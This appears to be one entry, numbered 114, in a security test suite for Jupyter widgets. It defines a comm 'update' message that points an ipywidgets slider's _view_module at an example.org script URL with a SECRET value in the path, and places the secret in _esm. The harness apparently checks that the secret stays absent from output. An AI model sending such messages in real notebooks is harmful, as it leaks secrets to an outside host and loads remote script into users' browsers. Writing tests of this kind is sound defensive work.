"""Attack 114: comm message module"""

IDEA = "Change, after opening, which script draws the widget."
SOURCE = "ipywidgets, _view_module"
WAY = "iopub/comm_msg/data"
CODE = """
import ipywidgets

slider = ipywidgets.IntSlider()
slider.comm.send(
    {
        "method": "update",
        "state": {"_view_module": "https://example.org/%s.js" % SECRET, "_esm": SECRET},
        "buffer_paths": [],
    }
)
"""
ABSENT = ["SECRET"]
WAIT = 0.3
